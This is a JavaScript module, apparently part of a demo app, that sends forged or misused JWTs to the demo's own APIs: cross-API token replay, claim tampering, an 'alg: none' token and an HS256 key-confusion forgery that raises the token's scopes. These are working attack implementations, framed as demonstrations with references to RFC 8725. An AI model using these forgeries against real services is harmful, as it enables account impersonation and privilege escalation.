// Attacks with a token on an API, sent by the page itself. Each gives what went over the wire: { sent: [...], way }.

import { base64urlOf } from '../base64url.js';
import { send } from '../http.js';
import { decode, partOf } from '../jwt.js';
import { accessToken } from '../session.js';
import { settings } from '../settings.js';
import { key } from '../verdict.js';

/** Token A, which is for API A, straight to API B. */
export async function tokenAAtApiB() {
  const { demo } = await settings();
  return at('api-b', new URL('/api/receipts', demo.api_b.url), await accessToken());
}

/** One letter of `sub` becomes another: somebody else's data, if nobody looked at the signature. */
export async function tampered() {
  const token = await accessToken();
  const [header, , signature] = token.split('.');
  const { claims } = decode(token);
  const other = claims.sub.endsWith('x') ? 'y' : 'x';
  return at('api-a', '/api/me', `${header}.${partOf({ ...claims, sub: claims.sub.slice(0, -1) + other })}.${signature}`);
}

/** "This token needs no signature", says the token (RFC 8725 section 2.1). */
export async function algNone() {
  const { header, claims } = decode(await accessToken());
  return at('api-a', '/api/me', `${partOf({ ...header, alg: 'none' })}.${partOf(claims)}.`);
}

/** Signed by HMAC with the public key as the secret: everybody has that key (RFC 8725 section 2.1). */
export async function publicKeyAsSecret() {
  const { header, claims } = decode(await accessToken());
  const pem = await pemOf(await key(header.kid));
  const secret = await crypto.subtle.importKey('raw', new TextEncoder().encode(pem), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  const signed = `${partOf({ ...header, alg: 'HS256' })}.${partOf({ ...claims, scope: 'read:reports write:reports' })}`;
  const signature = await crypto.subtle.sign('HMAC', secret, new TextEncoder().encode(signed));
  return at('api-a', '/api/me', `${signed}.${base64urlOf(new Uint8Array(signature))}`);
}

async function at(to, address, token) {
  const sent = await send(address, { headers: { Authorization: `Bearer ${token}` } });
  return { sent: [{ ...sent, from: 'app', to }] };
}

/** The public key as a file of it looks (RFC 7468). */
async function pemOf({ kty, n, e, crv, x, y }) {
  const kind = kty === 'RSA' ? { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' } : kty === 'EC' ? { name: 'ECDSA', namedCurve: crv } : { name: crv };
  const known = await crypto.subtle.importKey('jwk', { kty, n, e, crv, x, y }, kind, true, ['verify']);
  const der = btoa(String.fromCharCode(...new Uint8Array(await crypto.subtle.exportKey('spki', known))));
  return `-----BEGIN PUBLIC KEY-----\n${der.match(/.{1,64}/g).join('\n')}\n-----END PUBLIC KEY-----\n`;
}
